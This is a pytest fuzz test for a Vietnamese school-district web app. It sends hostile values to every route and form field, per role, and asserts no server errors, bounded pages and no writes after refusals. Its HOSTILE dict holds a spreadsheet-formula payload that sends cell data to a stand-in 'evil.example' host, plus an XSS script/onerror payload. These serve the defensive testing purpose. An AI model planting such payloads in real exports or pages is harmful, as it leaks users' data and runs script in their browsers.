"""Issue 11: a fuzz corpus. Every route of the URL map, as each role (and signed out), gets
hostile values in every query parameter the app reads (GET) and in every form field any form
declares (POST): NUL, control characters, 1 MB strings, invalid UTF-8, huge and negative
numbers, formula-like text, HTML and script. Nothing answers 500, no page is over 1 MB, and a
request that was refused (4xx) stored nothing.

Runs on the test database's kind (TEST_DB=postgres for PostgreSQL). A role requests, with every
value, the routes it may open; the routes it may not open get one request each (they must
refuse, not fail)."""

import io
import re
from pathlib import Path
from urllib.parse import quote_plus

import pytest
from werkzeug.datastructures import FileStorage
from wtforms.fields.core import UnboundField
from wtforms.fields.list import FieldList

import district
from district import access, forms
from district.activities import operations as activity_operations
from district.db import database
from district.directives import operations as directive_operations
from district.incidents import operations as incident_operations
from district.notifications.operations import notify
from district.reviews import operations as review_operations
from district.reviews import queries as review_queries
from district.rosters import operations as roster_operations
from tests.conftest import PASSWORD
from tests.incidents.conftest import report_data
from tests.rosters.conftest import complete_members

SOURCE = Path(district.__file__).resolve().parent
MAX_PAGE_BYTES = 1024 * 1024

HOSTILE = {
    "nul": "a\x00b",
    "controls": "\x01\x02\x1b[31m\x7f\x0b\x0c\r\n",
    "megabyte": "x" * 1024 * 1024,
    "invalid-utf8": b"\xff\xfe\xc3\x28\xa0\xa1",
    "huge-number": "99999999999999999999999999",
    "negative": "-2147483649",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "html": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
}
# Routes a signed-in client requests last (they end its session or change what others see).
LAST = ("auth.logout", "directives.withdraw", "admin.user_active", "admin.school_active",
        "admin.user_reset_password", "rosters.member_delete", "notifications.read_all")


def _form_classes():
    import importlib

    for feature in district.FEATURES:
        try:
            importlib.import_module(f"district.{feature}.forms")
        except ModuleNotFoundError:
            pass
    found, todo = set(), [forms.Form, forms.SubForm]
    while todo:
        cls = todo.pop()
        for sub in cls.__subclasses__():
            if sub not in found:
                found.add(sub)
                todo.append(sub)
    return found


def form_field_names():
    """Every field name of every form (nested lists as `students-0-full_name`), and the names
    views read from request.form directly."""
    names = set()
    for cls in _form_classes():
        for name in dir(cls):
            attr = getattr(cls, name, None)
            if not isinstance(attr, UnboundField):
                continue
            if issubclass(attr.field_class, FieldList):
                sub = attr.args[0].args[0]
                names.update(f"{name}-0-{n}" for n in dir(sub)
                              if isinstance(getattr(sub, n, None), UnboundField))
            else:
                names.add(name)
    return names | _read_in_views(r"request\.(?:form|values)\.get\(\s*\"(\w+)\"")


def _read_in_views(pattern):
    names = set()
    for path in SOURCE.rglob("*.py"):
        names.update(re.findall(pattern, path.read_text()))
    return names


def query_names():
    """Every query parameter a view reads: request.args.get("x") and the filter tuples."""
    names = _read_in_views(r"request\.(?:args|values)\.get\(\s*\"(\w+)\"")
    for path in SOURCE.rglob("views.py"):
        for group in re.findall(r"FILTERS\s*=\s*\(([^)]*)\)", path.read_text()):
            names.update(re.findall(r"\"(\w+)\"", group))
        for group in re.findall(r"_args\(([^)]*)\)", path.read_text()):
            names.update(re.findall(r"\"(\w+)\"", group))
    return names | {"page", "q", "next"}


FORM_NAMES = sorted(form_field_names())
QUERY_NAMES = sorted(query_names())


def encoded(names, value):
    quoted = quote_plus(value)  # once, however many fields carry it
    return "&".join(f"{quote_plus(name)}={quoted}" for name in sorted(names)).encode()


# Every query parameter with each value; the megabyte once, in the search (a query string that
# long is answered 414 before any view reads it).
QUERIES = {name: encoded(["q"] if name == "megabyte" else QUERY_NAMES, value).decode()
           for name, value in HOSTILE.items()}
BODIES = {name: encoded(FORM_NAMES, value) for name, value in HOSTILE.items()}


@pytest.fixture
def world(app, district):
    """Something behind every id of the URL map: a published directive with an attachment, an
    incident with an attachment, a roster with members, notifications."""
    pdf = FileStorage(io.BytesIO(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n"),
                      filename="huong-dan.pdf")
    import datetime as dt

    from district import clock
    today = clock.today()
    with app.app_context():
        directive = directive_operations.create_draft(district.officer, {
            "number": "7/PGDĐT", "title": "Về việc phòng, chống bạo lực học đường",
            "body": "Nội dung", "signer": "", "issued_on": today,
            "deadline": today + dt.timedelta(days=7), "response_kind": "ack",
            "audience_kind": "all"}, [pdf])
        directive_operations.publish(district.officer, directive)
        data, students = report_data()
        incident = incident_operations.report(district.staff, district.preschool, data,
                                              students, {})
        png = FileStorage(io.BytesIO(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64), filename="anh.png")
        incident_operations.add_attachment(district.principal, incident, png)
        roster = roster_operations.save_version(district.principal, district.preschool,
                                                complete_members("mam_non"))
        activity = activity_operations.record_activity(
            district.principal, district.preschool, {
                "kind": "quan_triet", "held_on": today, "title": "Quán triệt văn bản",
                "presenter": "school", "presenter_name": "", "sessions": 1, "hours": 2.0,
                "managers": 1, "teachers": 2, "employees": 0, "parents": 0, "students": 0,
                "summary": ""}, [directive.id], [{"user_id": district.staff.id}],
            activity_operations.checked_uploads({"attendance": [FileStorage(
                io.BytesIO(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"), filename="ky-ten.pdf")]}))
        review_round = review_operations.launch_round(district.officer, {
            "title": "Rà soát học kỳ I", "criteria_code": "nd80-2017", "audience_kind": "all",
            "deadline": today + dt.timedelta(days=14), "directive_id": None})
        criterion = review_queries.round_criteria(review_round)[0]
        for user in district.by_role.values():
            notify([user], "fuzz", "Thông báo", "/")
    member = roster.members.first() if hasattr(roster, "members") else None
    from district.models import RosterMember
    member = member or RosterMember.select().where(RosterMember.roster == roster.id).first()
    return {
        "directive_id": directive.id, "file_id": 1, "attachment_id": 1,
        "incident_id": incident.id, "item": "harm_assessed", "school_id": district.preschool.id,
        "user_id": district.staff.id, "member_id": member.id, "roster_id": roster.id,
        "notification_id": 1, "request_id": 1, "kind": "csv", "filename": "js/app.js",
        "activity_id": activity.id, "token": "not-a-signed-token", "message_id": 1,
        "round_id": review_round.id, "code": "nd80-2017", "criterion_id": criterion.id,
        "action_id": 1, "evidence_id": 1,
    }


def fingerprint():
    """What a refused request must not change: the rows of every table (but the audit log and
    the records of views and sign-in attempts, which a refusal may write) and the length of the
    texts people edit."""
    tables = [t for t in database.get_tables() if not re.search(
        r"audit|view|migrat|limit|attempt|sign_in|login|throttle|counter", t)]
    parts = [f'(SELECT count(*) FROM "{t}")' for t in tables] + [
        '(SELECT coalesce(sum(length(name)), 0) FROM "school")',
        '(SELECT coalesce(sum(length(full_name)), 0) FROM "user")',
        '(SELECT coalesce(sum(length(title)), 0) FROM "directive")',
        '(SELECT coalesce(sum(length(summary)), 0) FROM "incident")',
    ]
    return tuple(database.execute_sql("SELECT " + ", ".join(parts)).fetchone())


def _routes(app, values):
    get, post = [], []
    for rule in app.url_map.iter_rules():
        if rule.endpoint == "static":
            continue
        url = rule.rule
        for name in rule.arguments:
            url = re.sub(rf"<(?:[^:>]+:)?{name}>", str(values[name]), url)
        url = url.replace("<any(csv, xlsx):kind>", "csv")
        if "GET" in rule.methods:
            get.append((rule.endpoint, url))
        if "POST" in rule.methods:
            post.append((rule.endpoint, url))
    post.sort(key=lambda r: (r[0] in LAST, r[0]))
    return sorted(get), post


FORM = re.compile(r"<form\b[^>]*\baction=\"([^\"?#]*)[^>]*>(.*?)</form>", re.S)
NAME = re.compile(r"\bname=\"([^\"]+)\"")


def _check(response, what, forms=None):
    assert response.status_code < 500, what
    body = response.get_data()
    response.close()
    assert len(body) <= MAX_PAGE_BYTES, (what, len(body))
    if forms is not None and response.mimetype == "text/html":
        for action, inner in FORM.findall(body.decode("utf-8", "replace")):
            forms.setdefault(action, set()).update(NAME.findall(inner))


@pytest.mark.parametrize("role", ["anonymous", "admin", "officer", "principal", "staff",
                                  "observer"])
def test_hostile_values_in_every_route_as_each_role(app, district, world, login_as, role):
    app.config["PROPAGATE_EXCEPTIONS"] = False  # a 500 is an answer to assert on, not a raise
    user = district.by_role.get(role)
    client = login_as(user) if user else app.test_client()
    get, post = _routes(app, world)
    with app.test_request_context():
        may = {endpoint: access.may_open(user, endpoint) if user else (
            access.view_access(app, endpoint) == access.PUBLIC) for endpoint, _url in get + post}

    def allowed(endpoint):
        return may[endpoint]

    forms_seen = {}  # form action -> the field names the pages showed for it
    for endpoint, url in get:
        if not allowed(endpoint):
            _check(client.get(url), (role, url))
            continue
        _check(client.get(url), (role, url), forms_seen)
        _check(client.get(url, headers={"HX-Request": "true"}), (role, url, "htmx"))
        for name, query in QUERIES.items():
            _check(client.get(f"{url}?{query}"), (role, url, name))

    for endpoint, url in post:
        if endpoint == "auth.logout" and user:
            continue
        if not allowed(endpoint):
            _check(client.post(url, data=BODIES["html"],
                               content_type="application/x-www-form-urlencoded"), (role, url))
            continue
        for index, (name, value) in enumerate(HOSTILE.items()):
            before = fingerprint()
            headers = {"HX-Request": "true"} if index % 2 else {}
            # Every field any form declares; the megabyte only in the fields the pages showed
            # for this action (all of them when no page showed its form).
            body = (encoded(forms_seen.get(url) or FORM_NAMES, value) if name == "megabyte"
                    else BODIES[name])
            response = client.post(url, data=body, headers=headers,
                                   content_type="application/x-www-form-urlencoded")
            _check(response, (role, url, name))
            if 400 <= response.status_code < 500:
                assert fingerprint() == before, (role, url, name, response.status_code)
    if user:
        _check(client.post("/logout"), (role, "/logout"))
        assert client.post("/login", data={"username": user.username,
                                           "password": PASSWORD}).status_code == 302
